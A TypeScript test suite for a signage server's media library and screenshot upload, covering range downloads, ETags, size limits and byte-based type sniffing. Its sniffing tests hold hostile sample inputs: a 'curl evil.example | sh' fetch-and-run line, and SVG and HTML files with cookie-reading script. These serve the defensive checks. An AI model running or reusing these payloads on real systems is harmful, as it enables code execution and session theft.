/**
 * Media files and screenshots with real files: admin upload (server-computed MD5), download with
 * Range / If-Range / ETag so a half-downloaded file resumes, 416 and 304, deletion refused while
 * a playlist uses the file; screenshot upload, listing and admin view, and the 400/413 refusals.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { protocol } from '@marquee/sdk';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ADMIN, call, login, startTestServer, type TestServer } from '../helpers/server';
import {
  ADMIN_API,
  createPlaylist,
  jpegBytes,
  mp4Bytes,
  postMultipart,
  putScreen,
  register,
  uploadMedia,
  userToken,
} from './helpers';

const { signage } = protocol;

let t: TestServer;
let admin: string;

beforeEach(async () => {
  t = await startTestServer({ maxScreenshotBytes: 64 * 1024, maxMediaUploadBytes: 256 * 1024 });
  admin = await login(t.url, ADMIN.username, ADMIN.password);
});
afterEach(async () => {
  await t.close();
});

const md5 = (bytes: Buffer) => createHash('md5').update(bytes).digest('hex');

const videoBytes = (size: number) => mp4Bytes(size);

describe('media library', () => {
  it('stores an upload with its size and MD5 and serves it at media_url', async () => {
    const bytes = videoBytes(100_000);
    const media = await uploadMedia(t, admin, 'ad video.mp4', bytes, 'video/mp4');
    expect(media).toMatchObject({
      media_name: 'ad video.mp4',
      media_type: 'video',
      mimetype: 'video/mp4',
      file_size: 100_000,
      checksum: md5(bytes),
      playlist_ids: [],
    });
    expect(media.media_url).toBe(`/media/videos/${media.media_id}_ad_video.mp4`);

    // A device account gets only the media its own devices' playlists use.
    const device = await userToken(t, 'tv-1');
    const download = () =>
      fetch(`${t.url}${media.media_url}`, { headers: { authorization: `Bearer ${device}` } });
    const unused = await download();
    expect(unused.status).toBe(403);
    expect(await unused.json()).toMatchObject({ status_code: 403, code: 'FORBIDDEN' });
    await register(t, device, 'SN-1');
    const playlist = await createPlaylist(t, admin, {
      name: 'Ads',
      width: 1920,
      height: 1080,
      media_items: [{ media_id: media.media_id }],
    });
    const otherTv = await userToken(t, 'tv-2');
    await register(t, otherTv, 'SN-2');
    await putScreen(t, admin, 'SN-2', 'front', {
      screen_name: 'Front',
      resolution: '1920x1080',
      playlist_ids: [playlist.id],
    });
    expect((await download()).status).toBe(403); // on another account's device only
    await putScreen(t, admin, 'SN-1', 'front', {
      screen_name: 'Front',
      resolution: '1920x1080',
      playlist_ids: [playlist.id],
    });
    const res = await download();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('video/mp4');
    expect(res.headers.get('content-length')).toBe('100000');
    expect(res.headers.get('accept-ranges')).toBe('bytes');
    expect(res.headers.get('etag')).toBe(`"${media.checksum}"`);
    expect(md5(Buffer.from(await res.arrayBuffer()))).toBe(media.checksum);

    const anonymous = await fetch(`${t.url}${media.media_url}`);
    expect(anonymous.status).toBe(401);
    const missing = await fetch(`${t.url}/media/videos/999_nope.mp4`, {
      headers: { authorization: `Bearer ${device}` },
    });
    expect(missing.status).toBe(404);
  });

  it('resumes a half-downloaded file with Range and If-Range', async () => {
    const bytes = videoBytes(50_000);
    const media = await uploadMedia(t, admin, 'clip.mp4', bytes, 'video/mp4');
    const auth = { authorization: `Bearer ${admin}` };
    const half = bytes.subarray(0, 20_000);

    const rest = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, range: 'bytes=20000-', 'if-range': `"${media.checksum}"` },
    });
    expect(rest.status).toBe(206);
    expect(rest.headers.get('content-range')).toBe('bytes 20000-49999/50000');
    expect(rest.headers.get('content-length')).toBe('30000');
    const resumed = Buffer.concat([half, Buffer.from(await rest.arrayBuffer())]);
    expect(md5(resumed)).toBe(media.checksum);

    const middle = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, range: 'bytes=10-19' },
    });
    expect(middle.status).toBe(206);
    expect(Buffer.from(await middle.arrayBuffer())).toEqual(bytes.subarray(10, 20));
    const suffix = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, range: 'bytes=-5' },
    });
    expect(suffix.headers.get('content-range')).toBe('bytes 49995-49999/50000');
    expect(Buffer.from(await suffix.arrayBuffer())).toEqual(bytes.subarray(49_995));

    // The client's copy is of another version: the whole file, 200.
    const changed = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, range: 'bytes=20000-', 'if-range': '"0123456789abcdef0123456789abcdef"' },
    });
    expect(changed.status).toBe(200);
    expect(changed.headers.get('content-length')).toBe('50000');
    expect(md5(Buffer.from(await changed.arrayBuffer()))).toBe(media.checksum);
  });

  it('answers 416 outside the file and 304 for a matching ETag', async () => {
    const media = await uploadMedia(t, admin, 'logo.jpg', jpegBytes(1000), 'image/jpeg');
    const auth = { authorization: `Bearer ${admin}` };
    const outside = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, range: 'bytes=1000-' },
    });
    expect(outside.status).toBe(416);
    expect(outside.headers.get('content-range')).toBe('bytes */1000');
    expect(signage.SignageError.parse(await outside.json())).toMatchObject({ status_code: 416 });

    const cached = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, 'if-none-match': `"${media.checksum}"` },
    });
    expect(cached.status).toBe(304);
    expect(cached.headers.get('etag')).toBe(`"${media.checksum}"`);
    const stale = await fetch(`${t.url}${media.media_url}`, {
      headers: { ...auth, 'if-none-match': '"other"' },
    });
    expect(stale.status).toBe(200);
    expect((await stale.arrayBuffer()).byteLength).toBe(1000);
  });

  it('refuses to delete a file a playlist uses (409), then deletes it (204)', async () => {
    const media = await uploadMedia(t, admin, 'logo.jpg', jpegBytes(1000), 'image/jpeg');
    const playlist = await createPlaylist(t, admin, {
      name: 'P',
      width: 1920,
      height: 1080,
      media_items: [{ media_id: media.media_id }],
    });
    const url = `${t.url}${ADMIN_API}/media/${media.media_id}/`;
    const refused = await call(url, { token: admin, method: 'DELETE' });
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ status_code: 409, code: 'CONFLICT' });
    expect((await call(url, { token: admin })).body).toMatchObject({
      playlist_ids: [playlist.id],
    });

    await call(`${t.url}${ADMIN_API}/playlists/${playlist.id}/`, {
      token: admin,
      method: 'DELETE',
    });
    expect((await call(url, { token: admin, method: 'DELETE' })).status).toBe(204);
    expect((await call(url, { token: admin })).status).toBe(404);
    const gone = await fetch(`${t.url}${media.media_url}`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(gone.status).toBe(404);
  });

  it('refuses a missing file part (400), a non-media type (415) and an oversized file (413)', async () => {
    const url = `${t.url}${ADMIN_API}/media/`;
    expect((await postMultipart(url, admin, { media_name: 'x' })).status).toBe(400);
    const text = await postMultipart(
      url,
      admin,
      {},
      {
        field: 'file',
        name: 'notes.txt',
        type: 'text/plain',
        bytes: Buffer.from('hello'),
      },
    );
    expect(text.status).toBe(415);
    const big = await postMultipart(
      url,
      admin,
      {},
      {
        field: 'file',
        name: 'big.mp4',
        type: 'video/mp4',
        bytes: Buffer.alloc(300 * 1024, 1),
      },
    );
    expect(big.status).toBe(413);
    expect(big.body).toMatchObject({ status_code: 413 });
    const user = await userToken(t, 'tv-1');
    const notAdmin = await postMultipart(
      url,
      user,
      {},
      {
        field: 'file',
        name: 'a.jpg',
        type: 'image/jpeg',
        bytes: jpegBytes(100),
      },
    );
    expect(notAdmin.status).toBe(403);
    // Nothing half-written is left behind.
    expect(readdirSync(join(t.dataDir, 'signage', 'tmp'))).toEqual([]);
  });
});

describe('media types come from the bytes', () => {
  const url = () => `${t.url}${ADMIN_API}/media/`;
  const upload = (name: string, type: string, bytes: Buffer) =>
    postMultipart(url(), admin, {}, { field: 'file', name, type, bytes });
  const download = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${admin}`, ...headers } });
  const SVG =
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">' +
    '<script>alert(document.cookie)</script><rect width="8" height="8" fill="red"/></svg>';

  it('refuses an HTML page or a script renamed .png with 415 naming what it is, storing nothing', async () => {
    const cases = [
      ['logo.png', 'image/png', '<html><body><script>alert(1)</script></body></html>', 'text/html'],
      ['logo.png', 'image/png', '#!/bin/sh\ncurl evil.example | sh\n', 'text/x-script'],
      ['app.png', 'application/octet-stream', 'fetch("/api/v1/admin/users/")', 'text/plain'],
      ['clip.mp4', 'video/mp4', '%PDF-1.7\n', 'application/pdf'],
    ] as const;
    for (const [name, type, content, detected] of cases) {
      const res = await upload(name, type, Buffer.from(content));
      expect(res.status, name).toBe(415);
      expect(res.body).toMatchObject({
        status_code: 415,
        code: 'UNSUPPORTED_MEDIA_TYPE',
        message: expect.stringContaining(`the content is ${detected}, not an accepted image`),
      });
    }
    expect((await call(url(), { token: admin })).body).toMatchObject({ count: 0 });
    expect(readdirSync(join(t.dataDir, 'signage', 'tmp'))).toEqual([]);
  });

  it('stores a file under its sniffed type, whatever its name and declared type say', async () => {
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#0a0' } })
      .png()
      .toBuffer();
    const photo = signage.MediaRecord.parse((await upload('photo.jpg', 'image/jpeg', png)).body);
    expect(photo).toMatchObject({ mimetype: 'image/png', media_type: 'image' });
    // A video declared as a GIF is a video: it goes to the videos folder.
    const webm = Buffer.concat([
      Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x8f, 0x42, 0x86, 0x81, 0x01]),
      Buffer.from([0x42, 0x82, 0x84]),
      Buffer.from('webm'),
      Buffer.from([0x42, 0x87, 0x81, 0x04, 0x42, 0x85, 0x81, 0x02]),
      Buffer.alloc(64, 0xec),
    ]);
    const anim = signage.MediaRecord.parse((await upload('anim.gif', 'image/gif', webm)).body);
    expect(anim).toMatchObject({ mimetype: 'video/webm', media_type: 'video' });
    expect(anim.media_url).toMatch(/^\/media\/videos\//);

    for (const [record, mime] of [
      [photo, 'image/png'],
      [anim, 'video/webm'],
    ] as const) {
      const res = await download(record.media_url, { accept: 'text/html' });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(mime);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      // Passive media is shown inline, as before.
      expect(res.headers.get('content-disposition')).toBeNull();
      expect(res.headers.get('content-security-policy')).toBeNull();
    }
  });

  it('serves SVG only as a sandboxed attachment, and marks every /media/ answer nosniff', async () => {
    const res = await upload('badge.svg', 'image/svg+xml', Buffer.from(SVG));
    const svg = signage.MediaRecord.parse(res.body);
    expect(svg).toMatchObject({ mimetype: 'image/svg+xml', media_type: 'image' });
    const got = await download(svg.media_url);
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('image/svg+xml');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(got.headers.get('content-security-policy')).toBe(
      "sandbox; default-src 'none'; style-src 'unsafe-inline'",
    );
    expect(got.headers.get('content-disposition')).toMatch(
      /^attachment; filename="\d+_badge\.svg"$/,
    );
    expect(await got.text()).toBe(SVG);
    // A range of it too: the headers do not depend on how much is asked for.
    const part = await download(svg.media_url, { range: 'bytes=0-9' });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-security-policy')).toContain('sandbox');

    const anonymous = await fetch(`${t.url}${svg.media_url}`);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('x-content-type-options')).toBe('nosniff');
    const missing = await download('/media/images/999_nope.svg');
    expect(missing.status).toBe(404);
    expect(missing.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('keeps serving files stored before sniffing, under the type stored with them', async () => {
    const { files } = t.server.signage;
    const media = t.server.signage.store.media;
    const legacy = async (
      name: string,
      mediaType: 'image' | 'video',
      mimetype: string,
      bytes: Buffer,
    ) => {
      const record = await media.create(
        {
          mediaName: name,
          mediaType,
          mimetype,
          fileSize: bytes.length,
          checksum: md5(bytes),
          createdAt: new Date().toISOString(),
        },
        (id) => files.mediaPath(id, mediaType, name),
      );
      mkdirSync(dirname(files.mediaFile(record.path)), { recursive: true });
      writeFileSync(files.mediaFile(record.path), bytes);
      return files.mediaUrl(record.path);
    };
    // Typed by its extension, as uploads once were: random bytes said to be an MP4.
    const noise = Buffer.alloc(2000);
    for (let i = 0; i < noise.length; i++) noise[i] = (i * 13) % 256;
    const video = await download(await legacy('old.mp4', 'video', 'video/mp4', noise));
    expect(video.status).toBe(200);
    expect(video.headers.get('content-type')).toBe('video/mp4');
    expect(video.headers.get('content-disposition')).toBeNull();
    expect(Buffer.from(await video.arrayBuffer())).toEqual(noise);
    // Typed by the client's word: an SVG from before is still never rendered on this origin.
    const svg = await download(await legacy('old.svg', 'image', 'image/svg+xml', Buffer.from(SVG)));
    expect(svg.status).toBe(200);
    expect(svg.headers.get('content-type')).toBe('image/svg+xml');
    expect(svg.headers.get('content-security-policy')).toContain('sandbox');
    expect(svg.headers.get('content-disposition')).toMatch(/^attachment/);
  });
});

describe('POST /screenshot', () => {
  const url = () => `${t.url}/api/v1/screenshot`;
  const shot = (bytes: Buffer, type = 'image/jpeg') => ({
    field: 'image_file',
    name: 'screen.jpg',
    type,
    bytes,
  });

  it('stores a JPEG under the data dir, lists it per device and lets an admin view it', async () => {
    const token = await userToken(t, 'tv-1');
    await register(t, token, 'SN-1');
    const bytes = jpegBytes(5000, 3);
    const res = await postMultipart(
      url(),
      token,
      { device_id: 'SN-1', media_id: '1001' },
      shot(bytes),
    );
    expect(res.status).toBe(200);
    expect(signage.ScreenshotResponse.parse(res.body)).toEqual({
      message: 'Screenshot uploaded successfully',
    });

    const list = await call(`${t.url}${ADMIN_API}/devices/SN-1/screenshots/`, { token: admin });
    const [record] = signage.ScreenshotList.parse(list.body).results;
    expect(record).toMatchObject({ sn_number: 'SN-1', media_id: 1001, file_size: 5000 });
    const view = await fetch(`${t.url}${record?.url ?? ''}`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(view.status).toBe(200);
    expect(view.headers.get('content-type')).toBe('image/jpeg');
    expect(view.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await view.arrayBuffer())).toEqual(bytes);
    expect(readdirSync(join(t.dataDir, 'signage', 'screenshots', 'SN-1'))).toHaveLength(1);

    const detail = signage.DeviceDetail.parse(
      (await call(`${t.url}${ADMIN_API}/devices/SN-1/`, { token: admin })).body,
    );
    expect(detail.last_screenshot?.id).toBe(record?.id);
    // Not for the device's own account: viewing is an admin's.
    expect((await call(`${t.url}${record?.url ?? ''}`, { token })).status).toBe(403);
  });

  it('refuses missing parts and files that are not images with 400, oversized ones with 413', async () => {
    const token = await userToken(t, 'tv-1');
    await register(t, token, 'SN-1');
    const noFile = await postMultipart(url(), token, { device_id: 'SN-1', media_id: '1' });
    expect(noFile.status).toBe(400);
    expect((noFile.body as { message: string }).message).toContain('image_file');
    const noDevice = await postMultipart(url(), token, { media_id: '1' }, shot(jpegBytes(100)));
    expect(noDevice.status).toBe(400);
    expect((noDevice.body as { message: string }).message).toContain('device_id');
    // A page renamed screen.jpg and declared image/jpeg is still a page.
    const page = Buffer.from('<!DOCTYPE html><html><script>alert(document.cookie)</script>');
    const notImage = await postMultipart(
      url(),
      token,
      { device_id: 'SN-1', media_id: '1' },
      shot(page, 'image/jpeg'),
    );
    expect(notImage.status).toBe(400);
    expect((notImage.body as { message: string }).message).toContain(
      'image_file: the content is text/html, not an image',
    );
    const video = await postMultipart(
      url(),
      token,
      { device_id: 'SN-1', media_id: '1' },
      shot(mp4Bytes(1000), 'image/jpeg'),
    );
    expect(video.status).toBe(400);
    expect((video.body as { message: string }).message).toContain('video/mp4, not an image');
    const big = await postMultipart(
      url(),
      token,
      { device_id: 'SN-1', media_id: '1' },
      shot(jpegBytes(100 * 1024)),
    );
    expect(big.status).toBe(413);
    expect(big.body).toMatchObject({ status_code: 413 });
    const unknown = await postMultipart(
      url(),
      token,
      { device_id: 'SN-404', media_id: '1' },
      shot(jpegBytes(100)),
    );
    expect(unknown.status).toBe(404);
    const other = await userToken(t, 'tv-2');
    const foreign = await postMultipart(
      url(),
      other,
      { device_id: 'SN-1', media_id: '1' },
      shot(jpegBytes(100)),
    );
    expect(foreign.status).toBe(403);
    const list = await call(`${t.url}${ADMIN_API}/devices/SN-1/screenshots/`, { token: admin });
    expect(list.body).toMatchObject({ count: 0 });
  });
  it('takes the type from the bytes: a PNG sent as screen.jpg is stored and shown as a PNG', async () => {
    const token = await userToken(t, 'tv-1');
    await register(t, token, 'SN-1');
    const png = await sharp({
      create: { width: 4, height: 3, channels: 3, background: '#204080' },
    })
      .png()
      .toBuffer();
    const res = await postMultipart(
      url(),
      token,
      { device_id: 'SN-1', media_id: '7' },
      shot(png, 'image/jpeg'),
    );
    expect(res.status).toBe(200);
    const [stored] = readdirSync(join(t.dataDir, 'signage', 'screenshots', 'SN-1'));
    expect(stored).toMatch(/\.png$/);
    const list = await call(`${t.url}${ADMIN_API}/devices/SN-1/screenshots/`, { token: admin });
    const [record] = signage.ScreenshotList.parse(list.body).results;
    const view = await fetch(`${t.url}${record?.url ?? ''}`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(view.headers.get('content-type')).toBe('image/png');
    expect((await sharp(Buffer.from(await view.arrayBuffer())).metadata()).format).toBe('png');
  });
});
